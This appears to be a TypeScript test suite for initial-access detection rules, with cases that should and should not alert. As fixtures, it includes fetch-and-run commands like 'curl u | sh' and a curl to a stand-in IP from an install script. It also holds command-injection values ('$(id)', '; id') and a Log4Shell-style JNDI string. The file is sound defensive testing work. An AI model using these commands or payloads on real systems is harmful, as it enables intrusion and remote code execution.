import { constants } from 'node:os';
import type { ExecValues } from '@ringfence/testkit';
import { RAISED, type Scene, testContent, USER } from './support.ts';

const { SIGSEGV } = constants.signals;
const SH = '/usr/bin/dash';

/** A program has the fault of this number. */
const crash =
  (path: string, count: number, values: ExecValues = {}, signal = SIGSEGV) =>
  (s: Scene): void =>
    s.event(s.start(path, s.init, values), 'Fault', { signal, code: 1, count, systemCall: -1 });

testContent('initial-access.yaml', {
  'Shell started by a network server': {
    as: 'error initial-access T1190',
    fires: {
      'a web server starts sh': (s) => s.start(['sh', '-c', 'id'], s.start('/usr/sbin/apache2', s.init), {}, SH),
      'PHP starts sh': (s) => s.start(['sh', '-c', 'ls'], s.start('/usr/sbin/php-fpm8.2', s.init), {}, SH),
      'postgres starts a program for a query': (s) =>
        s.start(['sh', '-c', 'curl u | sh'], s.start('/usr/lib/postgresql/16/bin/postgres', s.init), {}, SH),
      "busybox's sh": (s) =>
        s.start(['sh', '-c', 'id'], s.start('/usr/sbin/nginx', s.startContainer()), {}, '/bin/busybox'),
      'a picture is converted, and something else is done': (s) =>
        s.start(['sh', '-c', "convert 'a.jpg' $(id) b.png"], s.start('/usr/sbin/php-fpm8.2', s.init), {}, SH),
      'a converter from somewhere else': (s) =>
        s.start(['sh', '-c', '/var/www/up/convert a b'], s.start('/usr/sbin/php-fpm8.2', s.init), {}, SH),
      'mail options that start something else': (s) =>
        s.start(['sh', '-c', '/usr/sbin/sendmail -t; id'], s.start('/usr/sbin/php-fpm8.2', s.init), {}, SH),
    },
    quiet: {
      'postgres archives its log': (s) =>
        s.start(
          ['sh', '-c', 'cp pg_wal/0001 /arch/0001'],
          s.start('/usr/lib/postgresql/16/bin/postgres', s.init),
          {},
          SH,
        ),
      'postgres asks which locales there are': (s) =>
        s.start(['sh', '-c', 'locale -a'], s.start('/usr/lib/postgresql/16/bin/postgres', s.shell), {}, SH),
      'PHP sends mail': (s) =>
        s.start(['sh', '-c', '/usr/sbin/sendmail -t -i'], s.start('/usr/sbin/php-fpm8.2', s.init), {}, SH),
      'PHP sends mail by another program': (s) =>
        s.start(['sh', '-c', '/usr/bin/msmtp -t'], s.start('/usr/sbin/php-fpm8.2', s.init), {}, SH),
      'PHP has a picture converted': (s) =>
        s.start(['sh', '-c', "convert 'up/1.jpg' 'up/1.png' 2>&1"], s.start('/usr/sbin/php-fpm8.2', s.init), {}, SH),
      'a shell starts a web server': (s) => s.start('/usr/sbin/nginx', s.start('/bin/sh /start', s.inside)),
      'npm runs a script': (s) => s.start(['sh', '-c', 'tsc'], s.start('/usr/bin/node /usr/bin/npm run b'), {}, SH),
      'a web server starts a worker': (s) => s.start('/usr/sbin/apache2', s.start('/usr/sbin/apache2', s.init)),
    },
  },
  'Shell started by an application in a container': {
    as: 'warning initial-access T1190',
    fires: {
      'Java starts sh': (s) => s.start(['/bin/sh', '-c', 'id'], s.start('/usr/bin/java -jar shop.jar', s.inside)),
      'Node starts sh': (s) => s.start(['/bin/sh', '-c', 'ls'], s.start('/usr/local/bin/node server.js', s.inside)),
    },
    quiet: {
      'an entry point does': (s) => s.start(['/bin/sh', '-c', 'migrate'], s.inside),
      'in a build': (s) =>
        s.start(['/bin/sh', '-c', 'make'], s.start('/usr/bin/node b.js', s.startContainer({ image: 'moby/buildkit' }))),
      'npm starts sh': (s) =>
        s.start(
          ['sh', '-c', 'node .'],
          s.start('/usr/local/bin/node /usr/local/bin/npm start', s.inside),
          {},
          '/bin/dash',
        ),
      'a Jenkins agent starts sh': (s) =>
        s.start(['sh', '-c', 'make'], s.start('/usr/bin/java -jar /jenkins/agent.jar', s.inside), {}, '/bin/dash'),
      'Java starts a program': (s) => s.start('/usr/bin/convert a b', s.start('/usr/bin/java -jar shop.jar', s.inside)),
      'on a host': (s) => s.start(['/bin/sh', '-c', 'id'], s.start('/usr/bin/java -jar shop.jar', s.init)),
    },
  },
  'Interpreter started by a network server in a container': {
    as: 'error initial-access T1190',
    fires: {
      'a web server starts Python with code': (s) =>
        s.start(
          ['python3', '-c', 'import os'],
          s.start('/usr/sbin/nginx', s.startContainer()),
          {},
          '/usr/bin/python3.11',
        ),
    },
    quiet: {
      'a web server starts its log program': (s) =>
        s.start('/usr/bin/rotatelogs -c /var/log/x', s.start('/usr/sbin/httpd', s.startContainer())),
      'a web server starts a CGI script': (s) =>
        s.start('/usr/bin/perl /cgi/form.pl', s.start('/usr/sbin/apache2', s.startContainer()), {}, '/usr/bin/perl'),
      'the entry point of the container does': (s) => s.start(['python3', '-c', 'x'], s.inside, {}, '/usr/bin/python3'),
      'on a host': (s) => s.start(['perl', '-e', '1'], s.start('/usr/sbin/apache2', s.init), {}, '/usr/bin/perl'),
    },
  },
  'Root login over SSH with a password': {
    as: 'warning initial-access T1078.003',
    fires: {
      'by password': (s) => s.log('sshd[812]: Accepted password for root from 203.0.113.9 port 40122 ssh2'),
      'by what PAM asks': (s) =>
        s.log('sshd-session[812]: Accepted keyboard-interactive/pam for root from 203.0.113.9 port 40122 ssh2'),
    },
    quiet: {
      'by key': (s) =>
        s.log('sshd[812]: Accepted publickey for root from 203.0.113.9 port 40122 ssh2: ED25519 SHA256:x'),
      'somebody else': (s) => s.log('sshd[812]: Accepted password for ann from 203.0.113.9 port 40122 ssh2'),
      'in vain': (s) => s.log('sshd[812]: Failed password for root from 203.0.113.9 port 40122 ssh2'),
      'a name that looks like it': (s) =>
        s.log(
          'sshd[812]: Failed password for invalid user x Accepted password for root from 203.0.113.9 port 40122 ssh2',
        ),
      'another program says so': (s) => s.log('app[812]: Accepted password for root from 203.0.113.9 port 40122 ssh2'),
    },
  },
  'Login from the internet with a password': {
    as: 'notice initial-access T1078.003 T1133',
    fires: { 'of a user': (s) => s.log('sshd[90]: Accepted password for ann from 203.0.113.9 port 4000 ssh2') },
    quiet: {
      'with a key': (s) =>
        s.log('sshd[90]: Accepted publickey for ann from 203.0.113.9 port 4000 ssh2: ED25519 SHA256:abc'),
      'from the house': (s) => s.log('sshd[90]: Accepted password for ann from 10.0.0.9 port 4000 ssh2'),
    },
  },
  'Shell started by a viewer of documents': {
    as: 'warning initial-access execution T1566.001 T1204.002',
    fires: { 'an office': (s) => s.start('/bin/sh -c x', s.start('/usr/lib/libreoffice/program/soffice.bin x.odt')) },
    quiet: {
      'a link is opened': (s) =>
        s.start('/bin/sh /usr/bin/xdg-open https://x.example', s.start('/usr/bin/evince x.pdf')),
      'a terminal': (s) => s.start('/bin/bash', s.start('/usr/bin/gnome-terminal-server')),
    },
  },
  'Program run from a removable disk': {
    as: 'notice initial-access T1091',
    fires: { 'a stick': (s) => s.start('/media/ann/STICK/setup') },
    quiet: {
      'a film on it': (s) => s.start('/usr/bin/vlc /media/ann/STICK/a.mkv'),
      'a program elsewhere': (s) => s.start('/opt/media/setup'),
    },
  },
  'Download tool started by an install script': {
    as: 'warning initial-access T1195.002',
    fires: {
      npm: (s) =>
        s.start(
          '/usr/bin/curl http://203.0.113.9/x',
          s.start(['sh', '-c', 'node postinstall.js || curl http://203.0.113.9/x'], s.shell, {}, '/usr/bin/dash'),
        ),
      pip: (s) => s.start('/usr/bin/wget u', s.start('/usr/bin/python3 setup.py install')),
    },
    quiet: {
      'a person': (s) => s.start('/usr/bin/curl u'),
      'a build': (s) => s.start('/usr/bin/curl u', s.start('/usr/bin/make deps')),
    },
  },
  'Attack on a library seen in a log': {
    as: 'notice initial-access T1190',
    fires: { 'the common text': (s) => s.log(`app[90]: GET /?q=$${'{'}jndi:ldap://203.0.113.9/a}`) },
    quiet: {
      'a variable': (s) => s.log('app[90]: path is $HOME/x'),
      'a price': (s) => s.log('app[90]: $5 {per} item'),
    },
  },
  'Server or set-user-id program crashes again and again': {
    as: 'warning initial-access privilege-escalation T1190 T1068',
    fires: {
      'a worker of a web server, each time another one': crash('/usr/sbin/nginx', 16),
      'a server, and hours later still': crash('/usr/sbin/php-fpm8.2', 1024),
      'a program that has the set-user-id bit, started by a user': crash('/usr/bin/su', 16, RAISED),
    },
    quiet: {
      'a server crashes as they do': crash('/usr/sbin/nginx', 15),
      'a virtual machine handles its faults, which are many': crash('/usr/bin/java', 1024),
      "a user's own program": crash('/home/ann/a.out', 64, USER),
      'a server divides by zero': crash('/usr/sbin/nginx', 64, {}, 8),
    },
  },
});
